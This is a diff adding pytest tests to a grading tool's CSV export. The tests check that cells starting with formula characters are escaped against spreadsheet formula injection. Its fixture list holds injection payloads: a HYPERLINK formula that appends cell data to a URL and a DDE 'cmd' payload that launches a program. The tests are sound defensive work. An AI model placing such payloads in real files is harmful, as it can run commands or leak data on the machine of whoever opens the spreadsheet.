@@ -64,3 +64,42 @@ def test_same_input_same_bytes(graded_class, tests, tmp_path):
     first = write_grades_csv(graded_class, list(tests), tmp_path / "a.csv").read_bytes()
     second = write_grades_csv(list(reversed(graded_class)), list(tests), tmp_path / "b.csv").read_bytes()
     assert first == second and b"\r" not in first
+
+
+FORMULAS = ['=HYPERLINK("http://x"&E2,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(text):
+    """Does every cell starting with = + - @, a tab or a carriage return get a leading ', as OWASP recommends?"""
+    from tito.grading.reports.common import csv_cell, csv_value
+
+    assert csv_cell(text) == "'" + text
+    assert csv_value(csv_cell(text)) == text
+
+
+@pytest.mark.parametrize("text", ["-1.5", "+3", "-2e5", "12.5", "ada", "'quoted", "", "a=b"])
+def test_numbers_and_plain_text_are_left_as_they_are(text):
+    """Are plain numbers such as -1.5, and text that no spreadsheet runs, written unchanged?"""
+    from tito.grading.reports.common import csv_cell, csv_value
+
+    assert csv_cell(text) == text and csv_value(text) == text
+
+
+def test_a_leading_quote_before_a_formula_survives_the_round_trip():
+    """Is text that itself starts with ' before a formula character given back exactly, not one quote short?"""
+    from tito.grading.reports.common import csv_cell, csv_value
+
+    assert csv_cell("'=x") == "''=x" and csv_value("''=x") == "'=x"
+
+
+def test_names_emails_timestamps_and_notes_from_outside_cannot_run_in_grades_csv():
+    """Do roster names, emails, LMS timestamps and notes that look like formulas arrive in grades.csv as text,
+    with their embedded quotes intact?"""
+    result = SubmissionResult("ada", "graded", 1.0, name=FORMULAS[0], email=FORMULAS[1], submitted_at="=cmd",
+                              notes=["@import"])
+    row = rows(grades_csv([result], []))[0]
+    assert (row["name"], row["email"], row["submitted_at"], row["notes"]) == (
+        "'" + FORMULAS[0], "'" + FORMULAS[1], "'=cmd", "'@import")
+    for cell in grades_csv([result], []).splitlines()[1].split(","):
+        assert not cell.lstrip('"').startswith(("=", "+", "@"))
